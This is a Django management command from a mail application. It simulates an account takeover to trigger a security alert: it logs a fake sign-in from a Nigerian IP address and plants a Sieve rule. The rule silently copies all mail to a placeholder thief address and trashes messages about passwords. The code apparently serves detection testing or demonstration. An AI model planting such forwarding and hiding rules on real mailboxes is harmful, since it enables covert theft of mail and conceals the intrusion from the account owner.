"""Somebody else uses an account: a sign-in from Nigeria, then a rule that sends mail away. The alert follows by itself."""

from argparse import ArgumentParser

from django.core.management.base import BaseCommand, CommandError

from ecritoire.accounts.models import Account, SignInEvent
from ecritoire.accounts.selectors import account_by_login
from ecritoire.accounts.services.history import sign_in_record
from ecritoire.mailstore.services_rules import rule_write

ADDRESS = "41.58.0.10"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
RULE = """require ["copy", "fileinto"];
redirect :copy "boite-du-voleur@partenaire.test";
if header :contains "subject" "mot de passe" { fileinto "Trash"; }
"""


class Command(BaseCommand):
    help = __doc__

    def add_arguments(self, parser: ArgumentParser) -> None:
        parser.add_argument("login")

    def handle(self, *args: object, login: str, **options: object) -> None:
        try:
            account = account_by_login(login)
        except Account.DoesNotExist:
            raise CommandError(f"nobody signs in as {login}") from None
        sign_in_record(
            login=account.login,
            account=account,
            protocol=SignInEvent.Protocol.WEB,
            result=SignInEvent.Result.SUCCESS,
            address=ADDRESS,
            application=BROWSER,
        )
        rule_write(account=account, name="Tri", text=RULE)
        self.stdout.write(f"{account.login}: signed in from {ADDRESS}, rule planted")
